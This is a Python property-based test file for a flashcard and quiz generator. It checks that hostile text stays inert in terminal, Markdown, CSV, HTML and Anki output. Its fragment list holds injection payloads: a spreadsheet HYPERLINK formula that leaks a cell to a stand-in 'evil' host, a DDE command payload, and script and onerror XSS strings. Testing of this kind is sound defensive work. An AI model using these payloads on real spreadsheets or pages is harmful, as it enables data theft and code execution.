"""Generated fact bases with hostile text in every field, through every output (issue 14).

Each base is written as YAML (block scalars for text with line breaks, JSON-quoted
strings otherwise), loaded, and turned into every output cardgen makes. Then:
- no control or bidi character reaches a terminal screen of the quiz (plain or styled);
- every Markdown quiz set parses (CommonMark) to exactly its intended structure, and
  each option, stack row and answer reads back as the text it came from;
- every CSV cell is formula-safe;
- every HTML output (exam papers and keys, Anki fields) holds only elements and
  attributes that the templates put in the shipped build.
"""

from __future__ import annotations

import csv
import io
import json
import re
import unicodedata
from html.parser import HTMLParser
from pathlib import Path

from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from rich.console import Console

from cardgen.context import Context
from cardgen.emit.anki import emit_anki
from cardgen.emit.exam import default_exam_files
from cardgen.emit.quizset import (
    QuizSet,
    build_quizset_files,
    option_lines,
    stack_lines,
    to_markdown,
    to_markdown_answers,
)
from cardgen.factbase.loader import load
from cardgen.present import answer_text, markers
from cardgen.review.compare import check
from cardgen.review.quiz import items_for
from cardgen.review.session import Progress
from cardgen.review.terminal import RichScreen
from cardgen.richtext import has_markup
from cardgen.text import BIDI_CONTROLS
from tests.conftest import ROOT
from tests.test_golden import anki_dump

GOLDEN = ROOT / "tests" / "golden" / "build"

FRAGMENTS = (
    '=HYPERLINK("http://evil/?leak="&A1,"click")', "=cmd|' /C calc'!A0", "+1", "-1", "@SUM(A1)",
    "- ⑤ INJECTED OPTION", "* item", "1. list", "1) list", "# heading", "---", "***", "===", "> quote",
    "| a | b |", "|---|", "```", "~~~", "    code", "<b>bold</b>", "&lt;b&gt;", "&amp;", "&#60;script&#62;",
    "<script>alert(1)</script>", '<img src=x onerror="alert(1)">', "[link](javascript:alert(1))", "![i](x)",
    "<http://evil>", "*em*", "_em_", "**strong**", "`code`", "\\", "\\*", "{{Front}}", "{{c1::x}}", "}}{{",
    "[sound:x.mp3]", "::", "a::b", "\u200f", "\u200e", "\u061c", '"', "'", "\t", "٩(◕‿◕)۶", "가\u0300", "ｆｕｌｌ",
)
# Text a fact file may hold: no control characters, no bidi overrides (the loader refuses them,
# see test_hostile.py), no line or paragraph separators (YAML reads those as line breaks).
SAFE_CHARS = st.characters(
    blacklist_categories=("Cc", "Cs", "Zl", "Zp"), blacklist_characters="\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"
)
PIECE = st.one_of(st.sampled_from(FRAGMENTS), st.text(SAFE_CHARS, min_size=1, max_size=6))
LINE = st.lists(PIECE, min_size=1, max_size=4).map(" ".join).filter(lambda s: s.strip())
# Rich-text markup (code, **bold**, $formulas$) is meant to show as markup; tests/test_richtext.py
# checks hostile text inside it. Here every text is plain, and must stay exactly that.
TEXT = st.one_of(LINE, st.lists(LINE, min_size=2, max_size=3).map("\n".join)).filter(lambda s: not has_markup(s))


def _yaml(value: str, indent: int) -> str:
    """VALUE as a YAML scalar: a literal block when it has lines, else a JSON string."""
    if "\n" not in value:
        return json.dumps(value, ensure_ascii=False)
    pad = " " * indent
    return "|-\n" + "\n".join(pad + line.strip() for line in value.split("\n") if line.strip())


def _base_yaml(t: list[str]) -> str:
    """A base that makes every kind of question, with generated text T[i] in every text field."""
    def v(i: int, indent: int = 6) -> str:
        return _yaml(f"{t[i % len(t)]} {i}", indent)  # the number keeps values distinct

    defs = "\n".join(
        f"  - id: d{n}\n    term: {v(n)}\n    english: {v(10 + n)}\n    aliases: [{json.dumps(f'별칭 {n}')}]\n"
        f"    definition: {v(20 + n)}\n    details:\n      - {v(30 + n, 8)}\n    examples:\n      - {v(40 + n, 8)}"
        for n in range(6)
    )
    return f"""\
deck: Hostile::Deck
tags: [t]
source: {v(50)}
definitions:
{defs}
pros_cons:
  - id: pc
    concept: d0
    pros:
      - {v(51, 8)}
      - text: {v(52, 10)}
        compare: {{concept: d1, text: {json.dumps(t[0] + ' 53', ensure_ascii=False)}}}
    cons: [{json.dumps(t[1 % len(t)] + ' 54', ensure_ascii=False)}]
    note: {v(55)}
taxonomy:
  - {{id: tx, parent: d0, children: [d1, d2, d3], basis: {json.dumps(t[2 % len(t)] + ' 56', ensure_ascii=False)}}}
scenarios:
  - id: sc
    text: {v(57)}
stacks:
  - id: st
    title: {v(58)}
    scenario: sc
    illustrates: d4
    layers:
      - {v(59, 8)}
      - {{name: {json.dumps(t[3 % len(t)] + ' 60', ensure_ascii=False)}, count: 2, concept: d5}}
      - {v(61, 8)}
questions:
  - id: q
    question: {v(62)}
    answer: {v(63)}
    explanation: {v(64)}
    stack: st
"""


# --- checks -----------------------------------------------------------------------------------------

RICH_OWN = re.compile(r"\x1b\[[0-9;?]*[mHJKl]")


def _unsafe(output: str) -> list[str]:
    rest = RICH_OWN.sub("", output)
    return [ch for ch in rest if (ch < " " and ch not in "\n\t") or "\x7f" <= ch <= "\x9f" or ch in BIDI_CONTROLS]


def check_screens(context: Context) -> None:
    for plain in (True, False):
        stream = io.StringIO()
        console = Console(file=stream, force_terminal=not plain, color_system=None if plain else "truecolor",
                          width=80, markup=False, highlight=False, emoji=False)
        screen = RichScreen(console, plain)
        for item in items_for(context, "mixed"):
            screen.front(item, Progress(0, 1, "mixed", False))
            screen.back(item, None)
            if item.accepted:
                screen.verdict(item, check(item.accepted[0] + "x", item.accepted), 1)  # type: ignore[arg-type]
            if item.options:
                screen.choice_result(item, 0, 3)  # type: ignore[arg-type]
        assert _unsafe(stream.getvalue()) == []


def _inline_text(token) -> str:
    """An inline token's text as a reader sees it; fails on any inline markup."""
    out = []
    for child in token.children or ():
        assert child.type in ("text", "text_special"), (child.type, token.content)
        out.append(child.content)
    return "".join(out)


def _one_line(text: str) -> str:
    return " / ".join(part.strip() for part in text.splitlines() if part.strip())


def check_markdown(qs: QuizSet) -> None:
    tokens = MarkdownIt("commonmark").enable("table").parse(to_markdown(qs).decode("utf-8"))
    blocks = [t.type for t in tokens if t.nesting >= 0 and t.type != "inline"]
    assert "html_block" not in blocks and "code_block" not in blocks and "fence" not in blocks
    assert "hr" not in blocks and blocks.count("heading_open") == 1
    assert blocks.count("table_open") == sum(1 for q in qs.questions if stack_lines(q))
    # Each option is one line of an option paragraph (lines ended by hard breaks) and reads back as itself.
    assert "bullet_list_open" not in blocks and "ordered_list_open" not in blocks
    items = [line for t in tokens if t.type == "inline" and "hardbreak" in [c.type for c in t.children]
             for line in _lines(t)]
    marks = markers("ko")
    wanted = [_one_line(line) for q in qs.questions
              for line in [*(f"{marks.number(i)} {term}" for i, term in enumerate(getattr(q, "terms", ()))),
                           *(option_lines(q, marks) if q.style != "ox" else [])]]
    assert items == wanted
    cells = [_inline_text(tokens[i + 1]) for i, t in enumerate(tokens) if t.type == "td_open"]
    assert cells == [_one_line(row) for q in qs.questions for row in stack_lines(q)]
    answers_tokens = MarkdownIt("commonmark").parse(to_markdown_answers(qs).decode("utf-8"))
    strong = [_inline_text_strong(t) for t in answers_tokens if t.type == "inline"]
    answers = [s for group in strong for s in group]
    assert answers == [_one_line(answer_text(q, markers("ko"))) for q in qs.questions]


def _lines(token) -> list[str]:
    """An inline token's lines (split at hard breaks) as a reader sees them; fails on any inline markup."""
    lines, line = [], []
    for child in token.children or ():
        assert child.type in ("text", "text_special", "hardbreak"), (child.type, token.content)
        if child.type == "hardbreak":
            lines.append("".join(line))
            line = []
        else:
            line.append(child.content)
    return [*lines, "".join(line)]


def _inline_text_strong(token) -> list[str]:
    """The texts in bold in an inline token; fails on any other inline markup."""
    found, inside = [], None
    for child in token.children or ():
        if child.type == "strong_open":
            inside = []
        elif child.type == "strong_close":
            found.append("".join(inside or []))
            inside = None
        else:
            assert child.type in ("text", "text_special", "softbreak"), (child.type, token.content)
            if inside is not None:
                inside.append(child.content)
    return found


def check_csv(data: bytes) -> None:
    for row in csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")):
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


class _Elements(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.seen: set[tuple[str, str]] = set()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.seen.add((tag, ""))
        self.seen.update((tag, name) for name, _ in attrs)

    def handle_comment(self, data: str) -> None:
        self.seen.add(("<!--", ""))


def elements(html: str) -> set[tuple[str, str]]:
    parser = _Elements()
    parser.feed(html)
    parser.close()
    return parser.seen


def _anki_fields(dump: str) -> str:
    return "\n".join(line.split(": ", 1)[1] for line in dump.splitlines()
                     if not line.startswith(("==", "type:", "tags:")) and ": " in line)


SHIPPED_EXAM = set().union(*(elements(p.read_text(encoding="utf-8")) for p in (GOLDEN / "exams").glob("*.html")))
# `<br>` is what the Anki field escaper writes for a line break; the shipped facts have none.
SHIPPED_ANKI = {("br", "")}.union(*(elements(_anki_fields(p.read_text(encoding="utf-8"))) for p in GOLDEN.glob("*.txt")))


@settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture])
@given(texts=st.lists(TEXT, min_size=4, max_size=8))
def test_hostile_text_in_every_field_stays_text_in_every_output(tmp_path_factory, texts) -> None:
    folder = tmp_path_factory.mktemp("hostile")
    (folder / "facts.yaml").write_text(_base_yaml(texts), encoding="utf-8")
    context = Context(load(folder))
    assert all(unicodedata.is_normalized("NFC", d.term) for d in context.base.definitions)
    assert context.bank  # (choice questions may all be screened out: generated texts look alike)

    check_screens(context)
    files = build_quizset_files(context)
    for name, data in files.items():
        if name.endswith(".csv"):
            check_csv(data)
    from cardgen.emit.quizset import make_quizsets

    for qs in make_quizsets(context.bank, sets=1, size=len(context.bank), seed=0):
        check_markdown(qs)
    for name, data in default_exam_files(context).items():
        extra = elements(data.decode("utf-8")) - SHIPPED_EXAM
        assert not extra, (name, extra)
    for name, data in emit_anki(context, 1_700_000_000).files.items():
        extra = elements(_anki_fields(anki_dump(data))) - SHIPPED_ANKI
        assert not extra, (name, extra)


def test_the_generator_writes_bases_the_loader_takes(tmp_path: Path) -> None:
    (tmp_path / "f.yaml").write_text(_base_yaml(["a\nb", "- x", "=y", "{{z}}"]), encoding="utf-8")
    base = load(tmp_path)
    assert len(base.definitions) == 6 and base.stacks[0].layers[1].count == 2
